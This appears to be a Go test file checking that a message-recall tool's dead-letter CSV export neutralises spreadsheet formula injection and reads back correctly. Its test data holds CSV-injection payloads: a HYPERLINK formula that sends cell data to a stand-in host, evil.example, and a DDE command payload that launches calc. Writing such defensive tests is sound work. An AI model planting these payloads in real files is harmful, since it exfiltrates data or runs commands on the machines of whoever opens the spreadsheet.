package producer

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/imrecall/imrecall/internal/redistest"
	"github.com/imrecall/imrecall/jobs"
)

// A dead-letter export in CSV opens in a spreadsheet as text whatever the
// IDs and Tencent's ErrorInfo hold, reads back exactly as a list, and its
// JSON Lines are exact.
func TestExportedCSVIsSafeAndReadsBack(t *testing.T) {
	ctx := t.Context()
	_, rdb := redistest.Mini(t)
	s := jobs.NewStore(rdb, "")
	j, err := s.Create(ctx, jobs.Spec{Kind: "recall:list", Queue: "purge", AppID: 1400000001, RequestedBy: "alice", Reason: "test"})
	if err != nil {
		t.Fatal(err)
	}
	formula := `=HYPERLINK("http://evil.example/?"&A1,"details")`
	g := jobs.Target{GroupID: "@TGS#1", TopicID: "@TGS#1@TOPIC#=1+1"}
	c := jobs.Target{From: "-spam", To: "+bob"}
	spaced := jobs.Target{From: " carol ", To: "dave"} // an ID may begin or end with a space
	if _, err := s.PlanGroup(ctx, j.ID, g, []int64{7}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.PlanC2C(ctx, j.ID, c, []string{"1_2_3"}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.PlanC2C(ctx, j.ID, spaced, []string{"4_5_6"}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Record(ctx, j.ID, spaced, []jobs.Outcome{{Item: "4_5_6", Code: "10002", Attempts: 1}}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Record(ctx, j.ID, g, []jobs.Outcome{{Item: "7", Code: "10002", ErrorInfo: formula, Attempts: 1}}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Record(ctx, j.ID, c, []jobs.Outcome{{Item: "1_2_3", Code: "10002", ErrorInfo: "@SUM(1+1)*cmd|' /C calc'!A0", Attempts: 1}}); err != nil {
		t.Fatal(err)
	}

	var out bytes.Buffer
	if n, err := s.ExportDeadLetters(ctx, j.ID, nil, "csv", &out); err != nil || n != 3 {
		t.Fatalf("ExportDeadLetters csv = %d, %v", n, err)
	}
	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q of %q: a spreadsheet takes it for a formula", cell, rec)
			}
		}
	}

	var got []Message
	if err := ReadList(ctx, bytes.NewReader(out.Bytes()), "dead.csv", func(_ int, m Message) error { got = append(got, m); return nil }); err != nil {
		t.Fatal(err)
	}
	want := []Message{{GroupID: g.GroupID, TopicID: g.TopicID, MsgSeq: 7}, {From: c.From, To: c.To, MsgKey: "1_2_3"}, {From: spaced.From, To: spaced.To, MsgKey: "4_5_6"}}
	if len(got) != len(want) {
		t.Fatalf("read back %+v, want %+v", got, want)
	}
	for _, w := range want {
		found := false
		for _, m := range got {
			found = found || m == w
		}
		if !found {
			t.Errorf("read back %+v: %+v missing", got, w)
		}
	}

	out.Reset()
	if _, err := s.ExportDeadLetters(ctx, j.ID, nil, "jsonl", &out); err != nil {
		t.Fatal(err)
	}
	infos := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var d jobs.DeadLetter
		if err := json.Unmarshal([]byte(line), &d); err != nil {
			t.Fatal(err)
		}
		infos[d.GroupID+d.From+"|"+d.ErrorInfo] = true
	}
	if !infos["@TGS#1|"+formula] || !infos["-spam|@SUM(1+1)*cmd|' /C calc'!A0"] {
		t.Fatalf("JSON Lines export is not exact:\n%s", out.String())
	}
}

// A list in CSV that imrecall did not write is read as it is: a cell that
// begins with a single quote names an ID that does (IDs may hold any
// printable character), not one a dead-letter export quoted. Reading it
// as an export would recall the messages of another group or account.
func TestListCSVOfAnotherToolIsReadAsItIs(t *testing.T) {
	tests := []struct {
		csv  string
		want Message
	}{
		{"GroupId,MsgSeq\n'@TGS#x,7\n", Message{GroupID: "'@TGS#x", MsgSeq: 7}},
		{"From_Account,To_Account,MsgKey\n'-bob,''alice,1_2_3\n", Message{From: "'-bob", To: "''alice", MsgKey: "1_2_3"}},
		{"\ufeffFrom_Account, To_Account ,MsgKey\n'=carol,'+dave,1_2_3\n", Message{From: "'=carol", To: "'+dave", MsgKey: "1_2_3"}},
	}
	for _, tt := range tests {
		var got []Message
		if err := ReadList(t.Context(), strings.NewReader(tt.csv), "list.csv", func(_ int, m Message) error { got = append(got, m); return nil }); err != nil {
			t.Fatal(err)
		}
		if len(got) != 1 || got[0] != tt.want {
			t.Errorf("%q read as %+v, want %+v", tt.csv, got, tt.want)
		}
	}
}
